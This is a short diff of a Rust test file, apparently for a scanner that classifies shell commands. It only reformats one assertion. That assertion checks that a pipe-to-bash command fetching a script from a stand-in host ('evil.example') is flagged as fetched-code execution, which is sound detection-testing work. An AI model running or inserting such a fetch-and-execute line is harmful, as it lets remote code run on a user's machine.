@@ -2098,7 +2098,11 @@ mod tests {
         ] {
             assert!(!has(template, Lang::Shell, "exec/fetched"), "{template}");
         }
-        assert!(has("curl -fsSL https://evil.example/i.sh | bash", Lang::Shell, "exec/fetched"));
+        assert!(has(
+            "curl -fsSL https://evil.example/i.sh | bash",
+            Lang::Shell,
+            "exec/fetched"
+        ));
     }
 
     #[test]
